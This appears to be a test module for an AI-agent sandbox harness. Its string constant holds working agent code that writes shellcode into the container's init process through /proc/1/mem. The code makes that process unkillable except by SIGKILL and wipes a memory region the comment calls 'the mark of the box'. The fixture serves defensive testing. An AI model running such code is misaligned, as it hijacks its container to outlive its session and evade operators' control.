"""Agent code that overwrites process 1 of its box, so that only SIGKILL ends process 1."""

import platform

import pytest

OVERWRITE = """
import os, signal, socket, sys, time
def system_call():
    with open("/proc/1/syscall") as file:
        return file.read().split()
def overwrite():
    while (place := system_call()[-1]) == "running":
        pass
    place = int(place, 16)
    memory = os.open("/proc/1/mem", os.O_RDWR)
    # prctl(PR_SET_PDEATHSIG, 0), then pause() in a loop.
    code = "b89d000000" "bf01000000" "31f6" "0f05" "b822000000" "0f05" "ebf7"
    os.pwrite(memory, bytes.fromhex(code), place)
    # The mark of the box. Source: proc(5), /proc/PID/stat.
    with open("/proc/1/stat") as file:
        start, end = map(int, file.read().rpartition(")")[2].split()[45:47])
    os.pwrite(memory, bytes(end - start), start)
    while system_call()[0] != "34":
        # A child that process 1 inherits wakes it.
        if os.fork() == 0:
            os.fork()
            os._exit(0)
        os.wait()
        time.sleep(0.01)
try:
    overwrite()
    result = b"overwritten"
except OSError as error:
    result = str(error).encode()
connection = socket.socket(socket.AF_UNIX)
connection.connect(sys.argv[1])
connection.sendall(result)
time.sleep(600)
"""
"""Then it connects to the socket that its first argument names, sends the result, and sleeps."""
OVERWRITTEN = b"overwritten"
needs_its_processor = pytest.mark.skipif(
    platform.machine() != "x86_64", reason="the instructions are those of x86_64"
)
